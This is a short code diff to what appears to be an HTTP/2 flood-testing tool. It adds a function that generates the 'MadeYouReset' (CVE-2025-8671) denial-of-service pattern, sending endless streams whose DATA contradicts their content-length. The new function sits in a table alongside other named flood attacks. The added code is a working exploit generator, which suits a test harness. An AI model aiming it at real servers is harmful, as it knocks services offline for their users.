@@ -275,6 +275,28 @@ def empty_data_flood(connection: Connection):
     return first, DataFrame(1, data=b"").serialize() * (CHUNK // 9)
 
 
+def made_you_reset(connection: Connection):
+    """A POST whose DATA contradicts its content-length, on each new stream (CVE-2025-8671,
+    "MadeYouReset"): the server resets each stream itself, so the guest's own resets, which
+    the rapid-reset limit counts, are never needed; each request was read and judged first."""
+    fields = base_fields("/made-you-reset", "POST") + [("content-length", "1")]
+    first = connection.headers(1, fields, end_stream=False)
+    block = connection.encoder.encode(fields)  # every field now indexed: the same bytes each time
+    first += frame_header(2, 0x0, 0x1, 1) + b"ab"
+    state = {"next": 3}
+
+    def more():
+        out = bytearray()
+        while len(out) < CHUNK:
+            stream_id = state["next"]
+            state["next"] += 2
+            out += frame_header(len(block), 0x1, 0x4, stream_id) + block  # HEADERS, END_HEADERS
+            out += frame_header(2, 0x0, 0x1, stream_id) + b"ab"  # DATA, END_STREAM: 2 bytes, not 1
+        return bytes(out)
+
+    return first, more
+
+
 def priority_flood(connection: Connection):
     """PRIORITY frames on ever new idle streams, each made the exclusive parent of the last
     (CVE-2019-9513's dependency-tree churn): no answer is due, each costs the tree's upkeep."""
@@ -299,7 +321,7 @@ def window_update_flood(connection: Connection):
 
 SHAPES = {"continuation": continuation_flood, "settings": settings_flood, "ping": ping_flood,
           "rapid_reset": rapid_reset, "hpack_bomb": hpack_bomb, "empty_data": empty_data_flood,
-          "priority": priority_flood, "window_update": window_update_flood}
+          "priority": priority_flood, "window_update": window_update_flood, "made_you_reset": made_you_reset}
 
 
 def flood(command: dict) -> dict:
